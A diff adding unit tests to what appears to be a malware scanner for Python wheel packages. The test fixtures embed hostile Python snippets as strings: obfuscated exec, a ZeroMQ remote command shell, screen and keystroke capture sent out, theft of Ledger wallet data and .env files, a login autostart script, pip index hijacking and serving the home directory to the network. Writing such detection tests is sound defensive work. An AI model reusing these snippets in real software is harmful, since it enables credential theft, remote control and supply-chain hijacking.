@@ -841,6 +841,112 @@ class ContentRuleTest {
     assertThat(patternsOf(check(wheelWith("pkg/gh.py", one)))).doesNotContain("ci-tokens-sent");
   }
 
+  @Test
+  void aStringTurnedRoundOrQuotedPrintableIsDecoded() {
+    String reversedNames =
+        "import importlib\ndef n(s):\n    return ''.join(reversed(s))\n"
+            + "run = getattr(importlib.import_module(n('so')), n('metsys'))\nrun(n('di'))\n";
+    String quoted = "import quopri\nexec(quopri.decodestring(BLOB).decode())\n";
+
+    assertThat(levelIn(reversedNames, "calls-decoded-name")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(quoted, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+  }
+
+  @Test
+  void aZeroMqStringReceivedAndRunIsARemoteShell() {
+    String loop =
+        "import subprocess, zmq\nsock = zmq.Context().socket(zmq.REQ)\n"
+            + "while True:\n    job = sock.recv_string()\n"
+            + "    sock.send_string(subprocess.getoutput(job))\n";
+
+    assertThat(levelIn(loop, "received-command")).isEqualTo(RiskLevel.HIGH);
+  }
+
+  @Test
+  void theScreenAndKeyboardReadThroughCommandsAreSecrets() {
+    String grab =
+        "import subprocess, requests\n"
+            + "subprocess.run(['ffmpeg', '-f', 'x11grab', '-i', ':0', '-frames:v', '1', out])\n"
+            + "requests.put(URL, data=open(out, 'rb'))\n";
+    String keys =
+        "import socket, subprocess\n"
+            + "proc = subprocess.Popen(['xinput', 'test-xi2', '--root'], stdout=subprocess.PIPE)\n"
+            + "for line in proc.stdout:\n    conn.send(line)\n";
+    String recorder =
+        "import subprocess\nsubprocess.run(['ffmpeg', '-f', 'x11grab', '-i', ':0', out])\n";
+
+    assertThat(levelIn(grab, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(keys, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    // a screen recorder that keeps its recording sends nothing
+    assertThat(check(wheelWith("pkg/record.py", recorder))).isEmpty();
+  }
+
+  @Test
+  void aHardwareWalletsAppDataAndProjectEnvFilesAreSecrets() {
+    String ledger =
+        "import os, pathlib, httpx\n"
+            + "app = pathlib.Path(os.environ['APPDATA']) / 'Ledger Live' / 'app.json'\n"
+            + "httpx.put(URL, content=app.read_bytes())\n";
+    String dotenv =
+        "import glob, requests\nfound = {}\n"
+            + "for p in glob.glob('**/.env*', recursive=True):\n    found[p] = open(p).read()\n"
+            + "requests.post(URL, json=found)\n";
+    String loader =
+        "import os\nfor line in open('.env'):\n    k, v = line.split('=', 1)\n"
+            + "    os.environ[k] = v\n";
+
+    assertThat(levelIn(ledger, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(dotenv, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    // loading a project's .env into the environment sends nothing
+    assertThat(check(wheelWith("pkg/env.py", loader))).isEmpty();
+  }
+
+  @Test
+  void kdePlasmasEnvScriptsStartAtLogIn() {
+    String script =
+        "import os\nd = os.path.expanduser('~/.config/plasma-workspace/env')\n"
+            + "with open(os.path.join(d, 'helper.sh'), 'w') as fh:\n    fh.write(LINE)\n";
+
+    assertThat(levelIn(script, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+  }
+
+  @Test
+  void pipPointedAtAnotherIndexIsAHijackOfEveryLaterInstall() {
+    String conf =
+        "import configparser, os\nc = configparser.ConfigParser()\n"
+            + "c.set('global', 'index-url', 'http://mirror.example/simple')\n"
+            + "with open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as fh:\n"
+            + "    c.write(fh)\n";
+    String command =
+        "import subprocess\n"
+            + "subprocess.run(['pip', 'config', 'set', 'global.index-url', 'https://m.example/simple'])\n";
+    String reader =
+        "import configparser, os\nc = configparser.ConfigParser()\n"
+            + "c.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
+            + "print(c.get('global', 'index-url', fallback='https://pypi.org/simple'))\n";
+
+    assertThat(levelIn(conf, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(command, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
+    // reading which index pip uses changes nothing
+    assertThat(check(wheelWith("pkg/which.py", reader))).isEmpty();
+  }
+
+  @Test
+  void theHomeDirectoryServedToTheNetworkIsHigh() {
+    String home =
+        "import functools, http.server, os\n"
+            + "h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.expanduser('~'))\n"
+            + "http.server.ThreadingHTTPServer(('0.0.0.0', 8765), h).serve_forever()\n";
+    String docs =
+        "import functools, http.server\n"
+            + "h = functools.partial(http.server.SimpleHTTPRequestHandler, directory='build/html')\n"
+            + "http.server.HTTPServer(('127.0.0.1', 8000), h).serve_forever()\n";
+
+    assertThat(levelIn(home, "serves-home-directory")).isEqualTo(RiskLevel.HIGH);
+    // serving built documentation serves no one's files
+    assertThat(check(wheelWith("pkg/preview.py", docs))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
